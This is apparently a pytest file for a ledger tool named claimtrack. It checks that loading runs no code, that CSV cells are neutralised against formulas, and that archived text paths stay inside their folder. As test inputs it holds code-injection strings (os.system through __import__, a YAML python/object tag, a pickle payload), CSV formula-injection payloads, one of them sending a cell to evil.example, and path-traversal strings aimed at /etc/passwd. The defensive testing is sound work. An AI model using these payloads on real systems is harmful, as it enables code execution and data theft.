"""Safe outputs and inputs: loading runs no code, CSV cells never run as formulas, and archived
text paths cannot leave their folder (``../../etc/passwd``, absolute paths, symlinks out).

HTML escaping is tested with the HTML reports, in the reports' own tests.
"""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

import claimtrack
from claimtrack import InvalidLedger, QuoteProblems, check_quotes
from claimtrack.cli import main
from claimtrack.quotes import read_source_texts
from claimtrack.report.table import Table
from tests.conftest import ROOT

SECRET = "root:x:0:0:the secret outside the text folder"  # noqa: S105 - not a password

# -- loading runs no code ----------------------------------------------------------------------

#: Modules that can run code while reading data, and builtins that run code given as text.
_CODE_RUNNING_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "yaml", "jsonpickle"}
_CODE_RUNNING_CALLS = {"eval", "exec", "__import__"}

#: exec of code generated from class definitions (as attrs and cattrs do) is allowed when its
#: statement says why, in ruff's exec suppression followed by " - " and the reason; eval and
#: the modules never are.
_JUSTIFIED = "noqa: " + "S102 - "


def _code_runners(path: Path) -> list[str]:
    """Where a module imports a code-running module or runs code without a justification."""
    source = path.read_text(encoding="utf-8")
    lines = source.splitlines()
    found = []
    for statement in ast.walk(ast.parse(source, filename=str(path))):
        if not isinstance(statement, ast.stmt):
            continue
        if isinstance(statement, ast.Import):
            modules = {alias.name.split(".")[0] for alias in statement.names}
        elif isinstance(statement, ast.ImportFrom):
            modules = {(statement.module or "").split(".")[0]}
        else:
            modules = set()
        calls = {
            node.func.id
            for node in ast.walk(statement)
            if isinstance(node, ast.Call)
            and isinstance(node.func, ast.Name)
            and node.func.id in _CODE_RUNNING_CALLS
        }
        span = "\n".join(lines[statement.lineno - 1 : statement.end_lineno])
        if calls == {"exec"} and _JUSTIFIED in span:
            calls = set()
        if isinstance(statement, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
            calls = set()  # judged statement by statement inside
        found.extend(
            f"{path.name}:{statement.lineno}: {name}"
            for name in sorted(modules & _CODE_RUNNING_MODULES | calls)
        )
    return found


#: The one module allowed to import PyYAML: it reads with a subclass of SafeLoader only.
_YAML_READER = ROOT / "claimtrack" / "changeset" / "_yaml.py"


def test_no_module_can_run_code_from_data() -> None:
    """No claimtrack module imports pickle, marshal, shelve or YAML (but the changeset reader,
    through SafeLoader), or calls eval; exec only runs code generated from class definitions,
    each use saying so."""
    found = [
        line
        for path in sorted((ROOT / "claimtrack").rglob("*.py"))
        for line in _code_runners(path)
        if not (path == _YAML_READER and line.endswith(": yaml"))
    ]
    assert found == []


def test_the_yaml_reader_uses_the_safe_loader_only() -> None:
    """The changeset reader subclasses (C)SafeLoader and names no other loader or load
    function."""
    source = _YAML_READER.read_text(encoding="utf-8")
    assert 'safe = getattr(yaml, "CSafeLoader", yaml.SafeLoader)' in source
    assert "class Loader(safe):" in source
    for unsafe in ("UnsafeLoader", "FullLoader", "yaml.load(", "unsafe_load", "yaml.Loader"):
        assert unsafe not in source


def test_a_yaml_changeset_cannot_run_code(tmp_path: Path) -> None:
    """A python/object tag in a changeset is refused as not YAML we read, and nothing runs."""
    from claimtrack.changeset import read_changesets
    from claimtrack.errors import ChangesetProblems

    marker = tmp_path / "ran"
    changes = tmp_path / "evil.yaml"
    changes.write_text(
        "changeset: 1\noperations:\n"
        f"  - !!python/object/apply:pathlib.Path.touch [!!python/object/apply:pathlib.Path"
        f" ['{marker}']]\n",
        encoding="utf-8",
    )
    with pytest.raises(ChangesetProblems, match="could not determine a constructor"):
        read_changesets([changes])
    assert not marker.exists()


def test_the_code_runner_check_can_fail(tmp_path: Path) -> None:
    """The check above flags pickle, yaml, eval and an unexplained exec."""
    module = tmp_path / "bad.py"
    module.write_text(
        "import pickle\nfrom yaml import load\ndef f(text):\n    return eval(text)\n"
        "exec('x = 1')\nexec('y = 2')  # noqa: S102 - generated from field names\n",
        encoding="utf-8",
    )
    assert _code_runners(module) == [
        "bad.py:1: pickle",
        "bad.py:2: yaml",
        "bad.py:5: exec",
        "bad.py:4: eval",
    ]


@pytest.mark.parametrize(
    "payload",
    [
        "__import__('os').system('touch {marker}')",
        "!!python/object/apply:os.system ['touch {marker}']",
        "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}} touch {marker}",
        "cos\nsystem\n(S'touch {marker}'\ntR.",  # a pickle
    ],
)
def test_code_in_a_ledger_is_only_text(tmp_path: Path, payload: str) -> None:
    """Code-like strings load as plain text, save back unchanged, and never run."""
    marker = tmp_path / "ran"
    text = payload.format(marker=marker)
    document = {"format_version": 1, "actors": [{"id": "x", "name": text, "kind": "group"}]}
    ledger = claimtrack.loads(json.dumps(document))
    claimtrack.save(ledger, tmp_path / "ledger.json")
    assert claimtrack.load(tmp_path / "ledger.json").actors["x"].name == text
    assert not marker.exists()


def test_a_class_tag_is_an_unknown_key_not_an_instruction() -> None:
    """Keys that other loaders treat as type tags (``__class__``, ``py/object``) are refused."""
    document = {
        "format_version": 1,
        "actors": [{"id": "x", "name": "X", "kind": "group", "py/object": "os.system"}],
        "__class__": "subprocess.Popen",
    }
    with pytest.raises(InvalidLedger) as caught:
        claimtrack.loads(json.dumps(document))
    assert caught.value.lines == [
        "$.__class__: unknown key '__class__'; expected one of format_version, policy, sources,"
        " actors, events, agreements, commitments, claims, evidence",
        "$.actors[0].py/object: unknown key 'py/object'; expected one of id, name, kind, aliases,"
        " role, affiliation, note",
    ]


# -- CSV cells never run as formulas -----------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(text: str) -> list[list[str]]:
    """Rows of a CSV text, as a spreadsheet would split them (a bare CR ends a row)."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_neutralises_formula_cells(cell: str) -> None:
    """A cell starting with = + - @ tab or CR is written with a leading ' so it shows as text."""
    rows = read_csv(Table(("name",), ((cell,),)).render("csv"))
    assert rows == [["name"], ["'" + cell]]


@pytest.mark.parametrize("cell", ["Iran", "2018-07", "1+1", " =1", "in_progress", "", "'quoted"])
def test_csv_leaves_other_cells_alone(cell: str) -> None:
    """Cells that cannot start a formula are written exactly as they are."""
    assert read_csv(Table(("name",), ((cell,),)).render("csv")) == [["name"], [cell]]


def _hostile_ledger(folder: Path) -> Path:
    """A ledger whose obligor is named like a spreadsheet formula."""
    document: dict[str, Any] = {
        "format_version": 1,
        "actors": [{"id": "evil", "name": str(FORMULAS[0]), "kind": "group"}],
        "commitments": [
            {
                "id": "c-1",
                "text": "=1+1",
                "category": "misc",
                "obligors": ["evil"],
                "history": [{"date": "2018", "status": "announced"}],
            }
        ],
    }
    path = folder / "ledger.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "command",
    [
        ["report", "--format", "csv", "--as-of", "2019"],
        ["export", "--to", "csv", "--as-of", "2019"],
    ],
)
def test_csv_from_the_command_line_is_neutralised(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str]
) -> None:
    """A formula-like actor name reaches CSV output (report and export) only as text."""
    path = _hostile_ledger(tmp_path)
    assert main([*command, "--ledger", str(path)]) == 0
    cells = [cell for row in read_csv(capsys.readouterr().out) for cell in row]
    assert "'" + str(FORMULAS[0]) in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# -- archived text paths stay inside their folder ----------------------------------------------


def _ledger_with_text(text: str) -> claimtrack.Ledger:
    """A ledger with one source whose archived text is ``text`` and one quote from it."""
    return claimtrack.loads(
        json.dumps(
            {
                "format_version": 1,
                "sources": [{"id": "src", "title": "S", "kind": "news", "text": text}],
                "evidence": [
                    {"id": "ev", "source": "src", "quote": {"exact": "root"}, "stance": "mentions"}
                ],
            }
        )
    )


@pytest.fixture
def folders(tmp_path: Path) -> tuple[Path, Path]:
    """A text folder with one archived text, and a secret file outside it."""
    texts = tmp_path / "texts"
    texts.mkdir()
    (texts / "ok.txt").write_text("root of the matter", encoding="utf-8")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_text(SECRET, encoding="utf-8")
    return texts, outside


@pytest.mark.parametrize(
    "text",
    [
        "../../etc/passwd",
        "../outside/passwd",
        "ok/../../outside/passwd",
        "/etc/passwd",
        "..\\outside\\passwd",
    ],
)
def test_text_paths_cannot_climb_out(folders: tuple[Path, Path], text: str) -> None:
    """Relative paths with .., absolute paths and backslashes are refused before any read."""
    texts, _ = folders
    found, problems = read_source_texts(_ledger_with_text(text), texts)
    assert found == {}
    assert [str(problem) for problem in problems] == [
        f"$.sources[0].text: {text!r} must be a relative path inside the text folder"
    ]


def test_symlink_inside_pointing_outside_is_refused(folders: tuple[Path, Path]) -> None:
    """A symlink in the text folder that leads outside it is refused, and nothing is read."""
    texts, outside = folders
    (texts / "link.txt").symlink_to(outside / "passwd")
    found, problems = read_source_texts(_ledger_with_text("link.txt"), texts)
    assert found == {}
    assert [str(problem) for problem in problems] == [
        "$.sources[0].text: 'link.txt' leads outside the text folder"
    ]


def test_symlinked_folder_pointing_outside_is_refused(folders: tuple[Path, Path]) -> None:
    """A symlinked sub-folder leading outside is refused the same way."""
    texts, outside = folders
    (texts / "sub").symlink_to(outside, target_is_directory=True)
    found, problems = read_source_texts(_ledger_with_text("sub/passwd"), texts)
    assert found == {}
    assert [str(problem) for problem in problems] == [
        "$.sources[0].text: 'sub/passwd' leads outside the text folder"
    ]


def test_symlink_staying_inside_is_allowed(folders: tuple[Path, Path]) -> None:
    """A symlink to another file inside the folder is fine: only escaping is refused."""
    texts, _ = folders
    (texts / "alias.txt").symlink_to(texts / "ok.txt")
    check_quotes(_ledger_with_text("alias.txt"), texts)


def test_validate_refuses_and_never_prints_the_secret(
    folders: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """`claimtrack validate` on a ledger pointing outside exits 1 without reading the file."""
    texts, outside = folders
    (texts / "link.txt").symlink_to(outside / "passwd")
    for text in ("../outside/passwd", "link.txt"):
        path = texts / "ledger.json"
        claimtrack.save(_ledger_with_text(text), path)
        assert main(["validate", "--ledger", str(path)]) == 1
        out, err = capsys.readouterr()
        assert "text folder" in err
        assert SECRET not in out + err


def test_check_quotes_raises_quote_problems_for_escaping_paths(folders: tuple[Path, Path]) -> None:
    """Through the public check, an escaping path is a QuoteProblems error, not a read."""
    texts, _ = folders
    with pytest.raises(QuoteProblems, match="must be a relative path inside the text folder"):
        check_quotes(_ledger_with_text("../../etc/passwd"), texts)


def test_add_source_refuses_a_text_outside_the_folder(
    folders: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """`claimtrack add-source --text ../../etc/passwd` is refused and the ledger is unchanged."""
    texts, outside = folders
    (texts / "link.txt").symlink_to(outside / "passwd")
    path = texts / "ledger.json"
    claimtrack.save(claimtrack.loads('{"format_version": 1}'), path)
    before = path.read_bytes()
    for text, why in (("../../etc/passwd", "must be a relative path"), ("link.txt", "leads out")):
        args = ["add-source", "--ledger", str(path), "--id", "s", "--title", "T", "--kind", "news"]
        assert main([*args, "--text", text]) == 1
        err = capsys.readouterr().err
        assert f"$.sources[0].text: {text!r} {why}" in err
        assert path.read_bytes() == before
